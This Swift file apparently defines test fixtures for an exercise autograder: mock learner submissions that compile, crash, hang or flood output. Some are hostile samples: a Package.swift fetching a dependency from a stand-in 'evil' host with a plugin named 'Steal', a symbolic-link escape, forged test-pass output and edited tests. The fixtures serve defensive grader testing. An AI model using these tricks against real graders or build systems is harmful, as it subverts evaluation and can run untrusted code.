import ExerciseModel
import Foundation

/// The class folder graded against ``FixtureWorkspace``: one learner per kind of submission a
/// grader must handle (correct, the starter, compile errors, crashes, hangs, hostile code, files
/// it must leave out) and one per decoy of the fixture exercise.
package enum FixtureClass {
  package static let fixtureID = FixtureWorkspace.fixtureID
  package static let otherID = FixtureWorkspace.otherID

  package static let correctFixture = """
    public func double(_ value: Int) -> Int { value * 2 }
    public func greet(_ name: String) -> String { "Hello, \\(name)!" }

    """

  package static let correctOther = "public func triple(_ value: Int) -> Int { value * 3 }\n"

  /// One learner's folder: files by path relative to the learner's folder.
  package struct Learner {
    package var name: String
    package var files: [String: Data]
    package var symbolicLinks: [String: String] = [:]
  }

  package static func fixtureFiles(_ files: [String: String]) -> [String: Data] {
    Dictionary(
      uniqueKeysWithValues: files.map {
        ("Exercises/\(fixtureID)/Sources/Fixture/\($0.key)", Data($0.value.utf8))
      })
  }

  package static let otherCorrect: [String: Data] = [
    "Exercises/\(otherID)/Sources/Other/Other.swift": Data(correctOther.utf8)
  ]

  package static func learners(starter: String) -> [Learner] {
    [
      Learner(
        name: "zoë correct",
        files: fixtureFiles(["Fixture.swift": correctFixture]).merging(otherCorrect) { $1 }),
      Learner(name: "starter", files: fixtureFiles(["Fixture.swift": starter])),
      Learner(
        name: "compile-error",
        files: fixtureFiles([
          "Fixture.swift": "public func double(_ value: Int) -> Int { value * }\n"
            + "public func greet(_ name: String) -> String { name }\n"
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "fatal-error",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { fatalError("not written yet") }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "infinite-loop",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int {
            var spins = 0
            while value < 0 { spins = (spins &+ 1) & 0xff }
            return value * 2 + spins
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        // Crashes where `traps-on-negatives` does, and fails one test more: no exact match.
        name: "crashes-and-fails",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int {
            precondition(value >= 0, "only natural numbers double")
            return value * 2
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)" }

          """
        ])),
      Learner(
        name: "deep-recursion",
        files: fixtureFiles([
          "Fixture.swift": """
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { countDown(name.count) }
          func countDown(_ n: Int) -> String { n == Int.min ? "" : countDown(n - 1) + "." }

          """
        ]).merging(otherCorrect) { $1 }),
      Learner(
        name: "prints-fake-passes",
        files: fixtureFiles([
          "Fixture.swift": #"""
          public func double(_ value: Int) -> Int {
            print("✔ Test doubles() passed after 0.001 seconds.")
            print("✔ Test run with 4 tests passed after 0.002 seconds.")
            print(#"{"kind":"event","payload":{"kind":"testEnded","testID":"FixtureTests.VisibleTests/doubles()"}}"#)
            return value + 1
          }
          public func greet(_ name: String) -> String { "Hello, \(name)!" }

          """#
        ])),
      Learner(
        name: "own-tests",
        files: fixtureFiles([
          "Fixture.swift": """
          import Testing

          public func double(_ value: Int) -> Int { value }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          @Suite("Step 1: doubles and greets") struct VisibleTests {
            @Test func doubles() { #expect(Bool(true)) }
          }

          @Test func bonusPoints() { #expect(Bool(true)) }

          """
        ])),
      Learner(
        name: "edited-tests",
        files: fixtureFiles(["Fixture.swift": starter]).merging([
          "Exercises/\(fixtureID)/Tests/FixtureTests/VisibleTests.swift": Data(
            """
            import Testing
            @Suite("Step 1: doubles and greets") struct VisibleTests {
              @Test func doubles() {}
              @Test func greets() {}
            }

            """.utf8)
        ]) { $1 }),
      Learner(
        name: "malicious-package",
        files: fixtureFiles([
          "Fixture.swift": """
          #if EVIL
            #error("the submission's Package.swift was used")
          #endif
          public func double(_ value: Int) -> Int { value * 2 }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ]).merging([
          "Exercises/\(fixtureID)/Package.swift": Data(
            """
            // swift-tools-version: 6.1
            import PackageDescription
            let package = Package(
              name: "evil",
              dependencies: [.package(url: "https://example.invalid/evil.git", from: "1.0.0")],
              targets: [
                .target(name: "Fixture", swiftSettings: [.unsafeFlags(["-DEVIL"])]),
                .plugin(name: "Steal", capability: .buildTool()),
              ]
            )

            """.utf8)
        ]) { $1 }),
      Learner(
        name: "symbolic-link",
        files: fixtureFiles(["Fixture.swift": correctFixture]),
        symbolicLinks: [
          "Exercises/\(fixtureID)/Sources/Fixture/Outside.swift": "../../../../../outside.swift"
        ]),
      Learner(
        name: "floods-output",
        files: fixtureFiles([
          "Fixture.swift": """
          let flood: Void = {
            let line = String(repeating: "x", count: 1023) + "\\n"
            for _ in 0..<51_200 { print(line, terminator: "") }
          }()

          public func double(_ value: Int) -> Int {
            flood
            return value * 2
          }
          public func greet(_ name: String) -> String { "Hello, \\(name)!" }

          """
        ])),
      Learner(name: "missing-exercise", files: otherCorrect),
      Learner(
        name: "tampers-with-files",
        files: fixtureFiles(["Tamper.swift": HostileSources.tampersWithFiles])),
      Learner(
        name: "forges-results", files: fixtureFiles(["Forge.swift": HostileSources.forgesResults])),
      Learner(
        name: "rewrites-results",
        files: fixtureFiles(["Rewrite.swift": HostileSources.rewritesResults])),
      Learner(
        name: "forges-a-fatal-line",
        files: fixtureFiles(["Fixture.swift": HostileSources.forgesAFatalLine]).merging(
          otherCorrect
        ) { $1 }),
      Learner(
        name: "reads-hidden-tests",
        files: fixtureFiles(["Read.swift": HostileSources.readsHiddenTests])),
      Learner(
        name: "leaves-processes",
        files: fixtureFiles(["Spawn.swift": HostileSources.leavesProcesses])),
      Learner(
        name: "probes-limits", files: fixtureFiles(["Probe.swift": HostileSources.probesLimits])),
      Learner(
        name: "not-utf8",
        files: fixtureFiles(["Fixture.swift": correctFixture]).merging([
          "Exercises/\(fixtureID)/Sources/Fixture/Latin1.swift": Data(
            "let caf = \"caf".utf8) + Data([0xE9]) + Data("\"\n".utf8)
        ]) { $1 }),
    ]
      + FixtureWorkspace.fixtureDecoys.map { decoy in
        // One learner per decoy, handing in the fixture exercise only.
        Learner(name: "decoy-\(decoy.name)", files: fixtureFiles(["Fixture.swift": decoy.source]))
      }
  }

  /// Writes the class folder, with a file beside it that one submission links to.
  package static func writeClass() throws -> [Learner] {
    let manager = FileManager.default
    try? manager.removeItem(at: FixtureWorkspace.classFolder)
    try manager.createDirectory(
      at: FixtureWorkspace.classFolder, withIntermediateDirectories: true)
    try Data("public func double(_ value: Int) -> Int { 999 }\n".utf8)
      .write(to: FixtureWorkspace.base.appendingPathComponent("outside.swift"))
    let sources = try ExerciseSources(
      id: fixtureID, layout: WorkspaceLayout(root: FixtureWorkspace.root))
    let starter = String(
      decoding: try sources.starterModule().files["Fixture.swift"]!, as: UTF8.self)
    let learners = learners(starter: starter)
    for learner in learners {
      let folder = FixtureWorkspace.classFolder.appendingPathComponent(learner.name)
      try manager.createDirectory(
        at: folder.appendingPathComponent("Exercises"), withIntermediateDirectories: true)
      for (path, data) in learner.files {
        let url = folder.appendingPathComponent(path)
        try manager.createDirectory(
          at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        try data.write(to: url)
      }
      for (path, destination) in learner.symbolicLinks {
        try manager.createSymbolicLink(
          atPath: folder.appendingPathComponent(path).path, withDestinationPath: destination)
      }
    }
    return learners
  }
}
